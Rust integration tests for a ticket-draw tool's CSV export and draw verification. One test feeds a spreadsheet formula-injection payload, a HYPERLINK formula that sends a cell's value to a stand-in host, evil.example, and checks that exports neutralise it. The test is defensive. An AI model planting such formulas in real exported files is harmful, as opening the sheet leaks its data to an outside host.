//! `tally export-draw`: every purchase as CSV, cells a spreadsheet reads as text, voids
//! on their side of the freeze, and `tally verify-draw --api` on the draw exported.

use super::*;

/// `tally export-draw ARGS --output FILE` on the app's table.
async fn export_draw(app: &TestApp, args: &[&str], file: &Path) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_tally"));
    command
        .arg("export-draw")
        .args(args)
        .arg("--output")
        .arg(file)
        .env("TABLE_NAME", app.store.table())
        .env("DYNAMODB_ENDPOINT", endpoint());
    tokio::task::spawn_blocking(move || command.output().unwrap())
        .await
        .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn export_writes_every_purchase_and_verify_checks_a_draw_through_the_api() {
    let app = spawn_app().await;
    let created = app
        .post(
            "/draws",
            &json!({"draw_id": "out", "total_tickets": 500, "stripes": 20,
                    "ticket_price": 250, "currency": "EUR"}),
        )
        .await;
    assert_eq!(created.status, StatusCode::CREATED);
    for i in 0..30 {
        let payer = if i % 3 == 0 {
            json!(null)
        } else {
            json!(format!("payer, \"{i}\""))
        };
        let bought = app
            .post(
                "/draws/out/purchases",
                &json!({"payment_id": format!("p{i}"), "quantity": 1 + i % 4, "payer_id": payer,
                        "channel": if i % 5 == 0 { "postal" } else { "online" }}),
            )
            .await;
        assert_eq!(bought.status, StatusCode::CREATED, "{}", bought.body);
    }
    app.post(
        "/draws/out/purchases/p4/void",
        &json!({"reason": "refund, partial"}),
    )
    .await;
    let file = std::env::temp_dir().join(format!("tally-export-{}.csv", std::process::id()));
    let output = export_draw(&app, &["out"], &file).await;
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let sold: usize = (0..30).map(|i| 1 + i % 4).sum();
    let postal: usize = (0..30).filter(|i| i % 5 == 0).map(|i| 1 + i % 4).sum();
    let said = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(
        said.contains(&format!(
            "30 purchases ({sold} tickets: {} online, {postal} postal)",
            sold - postal
        )),
        "{said}"
    );
    let mut reader = csv::Reader::from_path(&file).unwrap();
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(
        &header[..6],
        [
            "payment_id",
            "payer_id",
            "quantity",
            "tickets",
            "channel",
            "status"
        ]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    std::fs::remove_file(&file).ok();
    assert_eq!(rows.len(), 30);
    let p4 = rows.iter().find(|r| &r[0] == "p4").unwrap();
    assert_eq!(
        (&p4[1], &p4[5], &p4[7]),
        ("payer, \"4\"", "void", "refund, partial")
    );
    let p5 = rows.iter().find(|r| &r[0] == "p5").unwrap();
    assert_eq!((&p5[4], &p4[4]), ("postal", "online"));
    // What each buyer was charged: a postal entry nothing, a paid one quantity x price.
    assert_eq!((&p5[9], &p5[10]), ("0", "EUR"));
    assert_eq!((&p4[9], &p4[10]), ("250", "EUR"));
    let tickets: usize = rows.iter().map(|r| r[3].split(' ').count()).sum();
    assert_eq!(tickets, sold);

    // Filtered as the API's listing filters: the voided online purchases alone.
    let filters = ["out", "--status", "void", "--channel", "online"];
    let output = export_draw(&app, &filters, &file).await;
    assert!(output.status.success());
    let said = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(
        said.contains("1 purchases (1 tickets: 1 online, 0 postal)"),
        "{said}"
    );
    let filtered: Vec<String> = csv::Reader::from_path(&file)
        .unwrap()
        .records()
        .map(|r| r.unwrap()[0].to_owned())
        .collect();
    std::fs::remove_file(&file).ok();
    assert_eq!(filtered, ["p4"]);

    // Drawn, the draw checks out through a running API, commitment included.
    app.post("/draws/out/close", &json!({})).await;
    let drawn = app.post("/draws/out/winners", &json!({"prizes": 2})).await;
    assert_eq!(drawn.status, StatusCode::CREATED);
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    let server = tokio::spawn(tally::api::local_server::serve(
        listener,
        router(app.store.clone()),
        std::future::pending(),
        tally::api::local_server::DEFAULT_HEADER_READ_TIMEOUT,
    ));
    let verified = tokio::task::spawn_blocking(move || {
        Command::new(env!("CARGO_BIN_EXE_tally"))
            .args(["verify-draw", "out", "--api", &format!("http://{address}")])
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    server.abort();
    assert!(
        verified.status.success(),
        "{}",
        String::from_utf8_lossy(&verified.stderr)
    );
    // p4 (one ticket) is void. Without the draw's answer kept from the close, the check
    // says what it leaves unproven.
    let said = String::from_utf8_lossy(&verified.stdout).into_owned();
    assert!(
        said.contains(&format!("{} eligible tickets", sold - 1))
            && said.contains("Pick 2 for prize 2")
            && said.contains(
                "ok: the draw holds (tally-draw-v2), but not against the draw's answer kept from the close"
            ),
        "{said}"
    );
}

/// Runs `tally` on the test's table and reads the CSV it wrote to `file`.
async fn export_rows(app: &crate::helpers::TestApp, args: &[&str], file: &str) -> Vec<Vec<String>> {
    let path = std::env::temp_dir().join(format!("{}-{file}", app.store.table()));
    let mut command = Command::new(env!("CARGO_BIN_EXE_tally"));
    command
        .args(args)
        .arg(&path)
        .env("TABLE_NAME", app.store.table())
        .env("DYNAMODB_ENDPOINT", endpoint());
    let output = tokio::task::spawn_blocking(move || command.output().unwrap())
        .await
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_path(&path)
        .unwrap();
    let rows = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    std::fs::remove_file(&path).ok();
    rows
}

#[tokio::test]
async fn exports_write_cells_a_spreadsheet_would_evaluate_as_text() {
    let app = spawn_app().await;
    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"open")"#;
    let shown = format!("'{formula}");
    // A draw: a payer and a void reason that spreadsheets read as formulas.
    app.post("/draws", &json!({"draw_id": "sheet", "total_tickets": 10}))
        .await;
    let bought = app
        .post(
            "/draws/sheet/purchases",
            &json!({"payment_id": "p1", "quantity": 1, "payer_id": "@SUM(1+1)"}),
        )
        .await;
    assert_eq!(bought.status, StatusCode::CREATED, "{}", bought.body);
    let voided = app
        .post(
            "/draws/sheet/purchases/p1/void",
            &json!({"reason": formula}),
        )
        .await;
    assert!(voided.status.is_success(), "{}", voided.body);
    let rows = export_rows(&app, &["export-draw", "sheet", "--output"], "draw.csv").await;
    assert_eq!(rows.len(), 2);
    let reason = rows[0].iter().position(|h| h == "void_reason").unwrap();
    assert_eq!(
        (rows[1][1].as_str(), rows[1][reason].as_str()),
        ("'@SUM(1+1)", shown.as_str())
    );

    // A series: a reference, a void reason and a move's reason.
    app.put(
        "/series/SHEET",
        &json!({"format": "S{seq:3}", "reset": "never", "gapless": false}),
    )
    .await;
    let order = app
        .post(
            "/orders",
            &json!({"series": "SHEET", "source": "-shop", "external_ref": "-2-3"}),
        )
        .await;
    assert_eq!(order.status, StatusCode::CREATED, "{}", order.body);
    let voided = app
        .post(
            "/series/SHEET/orders/S001/void",
            &json!({"reason": formula}),
        )
        .await;
    assert!(voided.status.is_success(), "{}", voided.body);
    let moved = app
        .patch("/series/SHEET", &json!({"next": 5, "reason": "+1 skipped"}))
        .await;
    assert!(moved.status.is_success(), "{}", moved.body);
    let rows = export_rows(
        &app,
        &["export", "--series", "SHEET", "--period", "all", "--out"],
        "series.csv",
    )
    .await;
    assert_eq!(rows.len(), 3, "{rows:?}");
    assert_eq!(
        (
            rows[1][4].as_str(),
            rows[1][5].as_str(),
            rows[1][7].as_str()
        ),
        ("'-shop", "'-2-3", shown.as_str())
    );
    assert_eq!(rows[2][7], "'+1 skipped");
    // No cell of either file starts as a formula would.
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell}"
        );
    }
}

#[tokio::test]
async fn the_export_says_which_voids_came_after_the_freeze() {
    let app = spawn_app().await;
    app.post("/draws", &json!({"draw_id": "frz", "total_tickets": 20}))
        .await;
    for payment in ["early", "late", "kept"] {
        let body = json!({"payment_id": payment, "quantity": 2});
        let bought = app.post("/draws/frz/purchases", &body).await;
        assert_eq!(bought.status, StatusCode::CREATED, "{}", bought.body);
    }
    let void = |payment: &'static str| {
        let app = &app;
        async move {
            let path = format!("/draws/frz/purchases/{payment}/void");
            let voided = app.post(&path, &json!({"reason": "refund"})).await;
            assert!(voided.status.is_success(), "{}", voided.body);
        }
    };
    void("early").await;
    app.post("/draws/frz/close", &json!({})).await;
    void("late").await;
    let rows = export_rows(&app, &["export-draw", "frz", "--output"], "frz.csv").await;
    let column = rows[0]
        .iter()
        .position(|h| h == "voided_after_freeze")
        .unwrap();
    let mut flags: Vec<(&str, &str)> = rows[1..]
        .iter()
        .map(|r| (r[0].as_str(), r[column].as_str()))
        .collect();
    flags.sort_unstable();
    assert_eq!(flags, [("early", "false"), ("kept", ""), ("late", "true")]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_export_that_fails_half_way_leaves_the_earlier_file_and_no_partial_one() {
    let app = spawn_app().await;
    let created = app
        .post(
            "/draws",
            &json!({"draw_id": "cut", "total_tickets": 50, "stripes": 4}),
        )
        .await;
    assert_eq!(created.status, StatusCode::CREATED);
    for i in 0..4 {
        let bought = app
            .post(
                "/draws/cut/purchases",
                &json!({"payment_id": format!("p{i}"), "quantity": 2}),
            )
            .await;
        assert_eq!(bought.status, StatusCode::CREATED, "{}", bought.body);
    }
    let folder = std::env::temp_dir().join(format!("tally-cut-{}", app.store.table()));
    std::fs::create_dir_all(&folder).unwrap();
    let file = folder.join("cut.csv");
    std::fs::write(&file, "an earlier export\n").unwrap();
    // The draw is read; then every listing of its purchases fails.
    let proxy = FaultProxy::start(&endpoint()).await;
    proxy.set(Faults {
        error_before: 1.0,
        operations: Some(vec!["Query".into()]),
        ..Faults::default()
    });
    let mut command = Command::new(env!("CARGO_BIN_EXE_tally"));
    command
        .args(["export-draw", "cut", "--output"])
        .arg(&file)
        .env("TABLE_NAME", app.store.table())
        .env("DYNAMODB_ENDPOINT", proxy.endpoint());
    let output = tokio::task::spawn_blocking(move || command.output().unwrap())
        .await
        .unwrap();
    assert_eq!(
        output.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(proxy.counts().errors_before > 0, "no listing failed");
    assert_eq!(
        std::fs::read_to_string(&file).unwrap(),
        "an earlier export\n"
    );
    let left: Vec<_> = std::fs::read_dir(&folder)
        .unwrap()
        .map(|entry| entry.unwrap().file_name())
        .collect();
    assert_eq!(left, ["cut.csv"]);
    std::fs::remove_dir_all(&folder).unwrap();
}
